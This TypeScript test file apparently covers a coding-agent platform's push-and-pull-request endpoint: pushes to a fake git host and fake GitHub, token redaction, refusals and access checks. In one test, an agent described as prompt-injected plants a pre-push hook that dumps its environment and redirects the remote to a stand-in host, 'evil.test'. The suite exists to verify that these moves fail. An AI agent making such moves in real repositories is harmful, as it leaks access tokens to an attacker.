// Issue 41, deliverable 4: POST /api/conversations/:id/push through the public API against the
// real sandboxd, with the scripted runtime editing a repository cloned from the fake git host
// (smart HTTP over TLS, the real git upload-pack and receive-pack, reached through the sandbox's
// egress proxy), and a loopback fake of GitHub's REST API (fake-github.ts: the documented request
// and response shapes, checking the Authorization header and the JSON body).
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { type ConversationHarness, startConversationHarness } from './helpers/conversations.ts';
import type { TestUser } from './helpers/factories.ts';
import { type FakeGitHub, startFakeGitHub } from './helpers/fake-github.ts';
import { type FakeGitHost, startFakeGitHost } from './helpers/git-server.ts';

let h: ConversationHarness;
let githost: FakeGitHost;
let github: FakeGitHub;
let listener: net.Server;
let port = 0;

before(async () => {
  listener = net.createServer();
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as net.AddressInfo).port;
  githost = startFakeGitHost(listener);
  github = await startFakeGitHub();
  h = await startConversationHarness({
    sandboxdEnv: { SANDBOXD_SERVICE_ROUTES: `git.test=127.0.0.1:${port}` },
    env: { GIT_HOST_API_URLS: `git.test=${github.url}` },
    engine: {
      // The fake host's certificate is self-signed; TLS is still used.
      gitEnv: { GIT_SSL_NO_VERIFY: 'true' },
      lifecycle: { tickMs: 200 },
    },
  });
});
after(async () => {
  await h?.close();
  githost?.close();
  listener?.close();
  await github?.close();
});

interface Setup {
  user: TestUser;
  path: string;
  token: string;
  conversationId: string;
  sandbox: string;
}

/**
 * A repository on the fake host (token-protected, on the fake GitHub too), an environment that
 * clones it with its token as an environment secret, and a conversation whose first turn ran
 * `prompt` (from /home/sandbox).
 */
async function setup(options: {
  prompt: string;
  withToken?: boolean;
  user?: TestUser;
  secrets?: Record<string, string>;
}): Promise<Setup> {
  const user = options.user ?? (await h.user());
  const path = `acme/app-${randomBytes(3).toString('hex')}`;
  const token = `ghp_${randomBytes(16).toString('hex')}`;
  githost.addRepo(path, [{ files: { 'README.md': '# app\n', 'notes.txt': 'original\n' } }], {
    // Without a token in the environment the repository is public (it clones), and push has none.
    token: options.withToken === false ? '' : token,
  });
  github.addRepo(path, {
    token,
    branchExists: (b) => {
      try {
        githost.git(path, ['rev-parse', '--verify', '--quiet', `refs/heads/${b}`]);
        return true;
      } catch {
        return false;
      }
    },
  });
  const url = `https://git.test:${port}/${path}.git`;
  const environment = await h.environment(user, {
    repos: [options.withToken === false ? { url } : { url, token_secret: 'GIT_TOKEN' }],
  });
  const res = await h.api(user, 'POST', `/api/environments/${environment}/secrets`, {
    key: 'GIT_TOKEN',
    value: token,
  });
  assert.equal(res.status, 201, JSON.stringify(res.body));
  for (const [key, value] of Object.entries(options.secrets ?? {})) {
    const r = await h.api(user, 'POST', `/api/environments/${environment}/secrets`, { key, value });
    assert.equal(r.status, 201, JSON.stringify(r.body));
  }
  const agent = await h.agent(user, { environment_id: environment });
  const conv = await h.start(user, { agent_id: agent, prompt: options.prompt });
  const turn = await h.waitForTurn(user, conv.id, 1, 120_000);
  assert.equal(
    turn.status,
    'succeeded',
    `${JSON.stringify(turn)} ${JSON.stringify(await h.events(conv.id))}`,
  );
  const view = await h.get(user, conv.id);
  return { user, path, token, conversationId: conv.id, sandbox: view.sandbox?.name ?? '' };
}

async function sh(name: string, script: string): Promise<string> {
  const res = await h.deps.sandbox.exec(name, { cmd: ['sh', '-c', script] });
  return res.stdout.toString('utf8');
}

const EDIT = 'Fix the notes\nand add a file\ncd app-* && echo changed >> notes.txt && echo new > added.txt';

const CLI = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'cli', 'bin', 'paddock.mjs');

/** Runs the `paddock` CLI as a child process against the harness, as `user`. */
async function cli(
  user: TestUser,
  args: string[],
): Promise<{ code: number; stdout: string; stderr: string }> {
  const home = mkdtempSync(join(tmpdir(), 'paddock-cli-push-'));
  try {
    const child = spawn(process.execPath, [CLI, ...args], {
      env: {
        PATH: process.env['PATH'],
        HOME: home,
        XDG_CONFIG_HOME: join(home, 'config'),
        PADDOCK_URL: h.url,
        PADDOCK_API_KEY: user.apiKey,
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => {
      stdout += String(d);
    });
    child.stderr.on('data', (d) => {
      stderr += String(d);
    });
    const code = await new Promise<number>((resolve, reject) => {
      child.on('error', reject);
      child.on('close', (c) => resolve(c ?? 1));
    });
    return { code, stdout, stderr };
  } finally {
    rmSync(home, { recursive: true, force: true });
  }
}

describe('push a branch and open a pull request', () => {
  test("commits the agent's work, pushes a new branch with the token, opens a pull request; the token shows nowhere", async () => {
    const s = await setup({ prompt: EDIT });
    const b64 = Buffer.from(`x-access-token:${s.token}`).toString('base64');
    const plan = await h.api(s.user, 'GET', `/api/conversations/${s.conversationId}/push`);
    assert.equal(plan.status, 200, JSON.stringify(plan.body));
    assert.deepEqual(plan.body, {
      repos: [
        {
          repo: s.path.split('/')[1],
          remote: `https://git.test:${port}/${s.path}.git`,
          has_token: true,
          branch: `paddock/${s.conversationId.replace(/-/g, '').slice(-8)}-1`,
        },
      ],
      message: `Fix the notes\n\nPaddock conversation: ${h.config.publicUrl.origin}/conversations/${s.conversationId}\n`,
      ready: true,
      reason: null,
    });
    const res = await h.api(s.user, 'POST', `/api/conversations/${s.conversationId}/push`, {
      pull_request: true,
    });
    assert.equal(res.status, 200, JSON.stringify(res.body));
    const branch = `paddock/${s.conversationId.replace(/-/g, '').slice(-8)}-1`;
    assert.equal(res.body.push.branch, branch);
    assert.equal(res.body.push.repo, s.path.split('/')[1]);
    assert.equal(res.body.push.committed, true);
    // The branch is on the git host, with the agent's changes in its commit.
    assert.equal(githost.git(s.path, ['rev-parse', `refs/heads/${branch}`]), res.body.push.commit);
    assert.equal(githost.git(s.path, ['show', `${branch}:notes.txt`]), 'original\nchanged');
    assert.equal(githost.git(s.path, ['show', `${branch}:added.txt`]), 'new');
    assert.equal(githost.git(s.path, ['log', '-1', '--format=%s', branch]), 'Fix the notes');
    assert.equal(githost.git(s.path, ['log', '-1', '--format=%ae|%cn', branch]), `${s.user.email}|Paddock`);
    assert.match(
      githost.git(s.path, ['log', '-1', '--format=%b', branch]),
      /Paddock conversation: http.*\/conversations\//,
    );
    // main is untouched.
    assert.equal(githost.git(s.path, ['show', 'main:notes.txt']), 'original');

    // The pull request, on GitHub's API as documented.
    const post = github.requests.find((r) => r.method === 'POST' && r.path === `/repos/${s.path}/pulls`);
    assert.ok(post, JSON.stringify(github.requests.map((r) => `${r.method} ${r.path}`)));
    assert.equal(post.headers.authorization, `Bearer ${s.token}`);
    assert.equal(post.headers.accept, 'application/vnd.github+json');
    assert.equal(post.headers['x-github-api-version'], '2022-11-28');
    const body = post.body as Record<string, string>;
    assert.deepEqual(Object.keys(body).sort(), ['base', 'body', 'head', 'title']);
    assert.equal(body['head'], branch);
    assert.equal(body['base'], 'main'); // the repository's default_branch (GET /repos/{owner}/{repo})
    assert.equal(body['title'], 'Fix the notes');
    assert.match(body['body'] ?? '', new RegExp(`/conversations/${s.conversationId}`));
    const pull = github.pulls(s.path)[0];
    assert.ok(pull);
    assert.equal(res.body.pull_request.url, pull.html_url);
    assert.equal(res.body.pull_request.number, pull.number);
    assert.equal(res.body.pull_request.created, true);
    // Stored and shown on the conversation.
    const view = await h.get(s.user, s.conversationId);
    assert.deepEqual(
      view.pull_requests?.map((p) => [p.repo, p.branch, p.provider, p.number, p.url]),
      [[s.path.split('/')[1], branch, 'github', pull.number, pull.html_url]],
    );
    // Audited, without the token.
    const audit = await h.deps.db
      .selectFrom('audit_events')
      .select(['type', 'metadata'])
      .where('tenant_id', '=', s.user.id)
      .where('type', 'in', ['conversation.pushed', 'conversation.pull_request.opened'])
      .execute();
    assert.deepEqual(audit.map((a) => a.type).sort(), [
      'conversation.pull_request.opened',
      'conversation.pushed',
    ]);

    // The token: never in a response, the log, the server's own log, or the sandbox's repository.
    const texts = [
      JSON.stringify(res.body),
      JSON.stringify(view),
      JSON.stringify(audit),
      JSON.stringify(await h.events(s.conversationId)),
      h.logs.join('\n'),
    ];
    for (const text of texts) assert.ok(!text.includes(s.token) && !text.includes(b64));
    assert.equal(
      await sh(s.sandbox, `grep -rlF -e '${s.token}' -e '${b64}' app-*/.git /tmp 2>/dev/null || true`),
      '',
    );
    assert.doesNotMatch(await sh(s.sandbox, 'git -C app-* config --list'), /extraheader|x-access-token/i);
    // The sandbox's repository is on the pushed branch now.
    assert.equal((await sh(s.sandbox, 'git -C app-* rev-parse --abbrev-ref HEAD')).trim(), branch);

    // More work and a second push: the same branch moves on; the open pull request is returned.
    const p2 = await h.api(s.user, 'POST', `/api/conversations/${s.conversationId}/prompts`, {
      prompt: 'cd app-* && echo more >> notes.txt',
    });
    assert.equal(p2.status, 202, JSON.stringify(p2.body));
    await h.waitForTurn(s.user, s.conversationId, 2, 60_000);
    const again = await h.api(s.user, 'POST', `/api/conversations/${s.conversationId}/push`, {
      message: 'More notes',
      pull_request: true,
    });
    assert.equal(again.status, 200, JSON.stringify(again.body));
    assert.equal(again.body.push.branch, branch);
    assert.equal(githost.git(s.path, ['log', '-1', '--format=%s', branch]), 'More notes');
    assert.equal(githost.git(s.path, ['rev-list', '--count', `main..${branch}`]), '2');
    assert.equal(again.body.pull_request.created, false);
    assert.equal(again.body.pull_request.url, pull.html_url);
    assert.equal(github.pulls(s.path).length, 1);
  });

  test("the agent's git config and hooks never run with the token: no pre-push hook, no URL rewrite", async () => {
    // The agent (prompt-injected, say) plants a pre-push hook that copies its environment, and
    // rewrites the remote's URL to a host of its own.
    const s = await setup({
      prompt: [
        'cd app-*',
        'printf "#!/bin/sh\\nenv > /tmp/leak-hook\\n" > .git/hooks/pre-push && chmod +x .git/hooks/pre-push',
        'git config url."https://evil.test/".insteadOf "https://git.test"',
        'git config http.sslVerify true',
        'git remote set-url origin https://evil.test/x.git',
        'echo planted >> notes.txt',
      ].join(' && '),
    });
    const res = await h.api(s.user, 'POST', `/api/conversations/${s.conversationId}/push`, {
      branch: 'planted',
    });
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.equal(githost.git(s.path, ['show', 'planted:notes.txt']), 'original\nplanted');
    assert.equal(await sh(s.sandbox, 'cat /tmp/leak-hook 2>/dev/null || echo none'), 'none\n');
  });

  test("the conversation's secrets are redacted from the commit message, the pull request and the remote's words", async () => {
    const secret = `s3cret-${randomBytes(12).toString('hex')}`;
    const s = await setup({
      prompt: `# Rotate the key ${secret}\ncd app-* && echo rotated >> notes.txt`,
      secrets: { API_SECRET: secret },
    });
    const res = await h.api(s.user, 'POST', `/api/conversations/${s.conversationId}/push`, {
      pull_request: true,
    });
    assert.equal(res.status, 200, JSON.stringify(res.body));
    const branch = res.body.push.branch;
    assert.equal(githost.git(s.path, ['log', '-1', '--format=%s', branch]), 'Rotate the key [REDACTED]');
    const pull = github.pulls(s.path)[0];
    assert.equal(pull?.title, 'Rotate the key [REDACTED]');
    assert.ok(!(pull?.body ?? '').includes(secret));

    // A remote that echoes the token and a secret back in its refusal: both redacted.
    githost.protect(s.path, ['guarded'], { say: `token ${s.token} and ${secret} are not welcome` });
    const refused = await h.api(s.user, 'POST', `/api/conversations/${s.conversationId}/push`, {
      branch: 'guarded',
    });
    assert.equal(refused.status, 409, JSON.stringify(refused.body));
    assert.match(refused.body.message, /remote says: token \[REDACTED\] and \[REDACTED\] are not welcome/);
    assert.ok(
      !JSON.stringify(refused.body).includes(s.token) && !JSON.stringify(refused.body).includes(secret),
    );
  });

  test('refusals say what to do: protected branch, a branch that exists, a bad name, no token', async () => {
    const s = await setup({ prompt: 'cd app-* && echo x >> notes.txt' });
    const push = (body: unknown) =>
      h.api(s.user, 'POST', `/api/conversations/${s.conversationId}/push`, body);

    githost.protect(s.path, ['main']);
    const protectedPush = await push({ branch: 'main' });
    assert.equal(protectedPush.status, 409, JSON.stringify(protectedPush.body));
    assert.equal(protectedPush.body.error, 'push_rejected');
    assert.match(protectedPush.body.message, /push to a new branch instead/);
    assert.match(protectedPush.body.message, /GH006: Protected branch update failed for refs\/heads\/main/);
    assert.equal(githost.git(s.path, ['show', 'main:notes.txt']), 'original');

    // A branch on the remote with a commit the sandbox does not have.
    const other = githost.git(s.path, ['commit-tree', 'main^{tree}', '-p', 'main', '-m', 'someone else']);
    githost.git(s.path, ['update-ref', 'refs/heads/taken', other]);
    const exists = await push({ branch: 'taken' });
    assert.equal(exists.status, 409, JSON.stringify(exists.body));
    assert.equal(exists.body.error, 'branch_exists');
    assert.match(exists.body.message, /push under another branch name/);
    assert.equal(githost.git(s.path, ['rev-parse', 'refs/heads/taken']), other);

    for (const bad of ['../x', 'a b', '-x', 'x.lock', 'a//b', 'x@{1}']) {
      const r = await push({ branch: bad });
      assert.equal(r.status, 422, `${bad}: ${JSON.stringify(r.body)}`);
      assert.ok(r.body.errors?.branch, bad);
    }
    const wrongRepo = await push({ repo: 'nope' });
    assert.equal(wrongRepo.status, 422);
    assert.match(wrongRepo.body.errors.repo[0], /is not one of the environment's repositories/);

    // Then a good name still works after the refusals (the sandbox's repository is usable); a
    // second push of the conversation while one runs is refused, not raced.
    const both = await Promise.all([push({ branch: 'feature/notes' }), push({ branch: 'feature/notes' })]);
    assert.deepEqual(both.map((r) => r.status).sort(), [200, 409], JSON.stringify(both.map((r) => r.body)));
    const ok = both.find((r) => r.status === 200) ?? both[0];
    const second = both.find((r) => r.status === 409);
    assert.equal(second?.body.error, 'conflict');
    assert.match(second?.body.message, /a push of this conversation is under way/);
    assert.equal(githost.git(s.path, ['show', 'feature/notes:notes.txt']), 'original\nx');
    for (const r of [protectedPush, exists, ok]) assert.ok(!JSON.stringify(r.body).includes(s.token));

    const noToken = await setup({
      prompt: 'cd app-* && echo y >> notes.txt',
      withToken: false,
      user: s.user,
    });
    const missing = await h.api(
      noToken.user,
      'POST',
      `/api/conversations/${noToken.conversationId}/push`,
      {},
    );
    assert.equal(missing.status, 422, JSON.stringify(missing.body));
    assert.equal(missing.body.error, 'push_token_missing');
    assert.match(missing.body.message, /add an access token to the environment's repository/);
  });

  test('paddock push <conversation> --branch NAME --pr: pushes, opens the pull request, prints its URL; refusals exit 1 with the reason', async () => {
    const s = await setup({ prompt: 'Tidy the notes\ncd app-* && echo tidy >> notes.txt' });
    const ok = await cli(s.user, ['push', s.conversationId, '--branch', 'cli/tidy', '--pr']);
    assert.equal(ok.code, 0, ok.stderr);
    const pull = github.pulls(s.path)[0];
    assert.ok(pull);
    assert.match(
      ok.stdout,
      /^Committed and pushed app-\w+ to cli\/tidy \([0-9a-f]{12}\) on https:\/\/git\.test/,
    );
    assert.ok(
      ok.stdout.includes(`Opened pull request #${pull.number} into main: ${pull.html_url}`),
      ok.stdout,
    );
    assert.equal(githost.git(s.path, ['show', 'cli/tidy:notes.txt']), 'original\ntidy');

    const json = await cli(s.user, ['-o', 'json', 'push', s.conversationId, '--branch', 'cli/tidy', '--pr']);
    assert.equal(json.code, 0, json.stderr);
    const parsed = JSON.parse(json.stdout);
    assert.equal(parsed.push.committed, false);
    assert.equal(parsed.pull_request.created, false);

    githost.protect(s.path, ['release']);
    const refused = await cli(s.user, ['push', s.conversationId, '--branch', 'release']);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /refused the push to release .*push to a new branch instead/);
    assert.match(refused.stderr, /GH006: Protected branch update failed for refs\/heads\/release/);
    assert.ok(!`${ok.stdout}${json.stdout}${refused.stderr}`.includes(s.token));
  });

  test('another tenant: 404; a sandbox key: 403; a reclaimed sandbox: 409 saying how to wake it', async () => {
    const s = await setup({ prompt: 'cd app-* && echo z >> notes.txt' });
    const stranger = await h.user();
    const foreign = await h.api(stranger, 'POST', `/api/conversations/${s.conversationId}/push`, {});
    assert.equal(foreign.status, 404, JSON.stringify(foreign.body));
    const missing = await h.api(
      stranger,
      'POST',
      '/api/conversations/00000000-0000-7000-8000-000000000000/push',
      {},
    );
    assert.equal(missing.status, 404);
    assert.deepEqual(Object.keys(foreign.body).sort(), Object.keys(missing.body).sort());
    assert.equal((await h.api(stranger, 'POST', '/api/conversations/not-a-uuid/push', {})).status, 404);

    const minted = await h.deps.apiKeys.mintConversationKey(s.user.id, s.conversationId);
    const asKey = { ...s.user, auth: { authorization: `Bearer ${minted.key}` } };
    const byKey = await h.api(asKey, 'POST', `/api/conversations/${s.conversationId}/push`, {});
    assert.equal(byKey.status, 403, JSON.stringify(byKey.body));

    assert.equal((await h.api(stranger, 'GET', `/api/conversations/${s.conversationId}/push`)).status, 404);
    assert.equal((await h.api(asKey, 'GET', `/api/conversations/${s.conversationId}/push`)).status, 403);
    await h.reclaim(s.user, s.conversationId);
    const plan = await h.api(s.user, 'GET', `/api/conversations/${s.conversationId}/push`);
    assert.equal(plan.body.ready, false);
    assert.match(plan.body.reason, /sandbox is not running: send a prompt to wake it/);
    const gone = await h.api(s.user, 'POST', `/api/conversations/${s.conversationId}/push`, {});
    assert.equal(gone.status, 409, JSON.stringify(gone.body));
    assert.equal(gone.body.error, 'sandbox_not_running');
    assert.match(gone.body.message, /send a prompt to wake it \(POST \/api\/conversations\/:id\/prompts/);
    // Nothing reached the git host from any of them.
    assert.throws(() => githost.git(s.path, ['rev-parse', '--verify', '--quiet', 'refs/heads/paddock']));
    assert.equal(
      githost.git(s.path, ['for-each-ref', '--format=%(refname)', 'refs/heads']),
      'refs/heads/main',
    );
  });
});
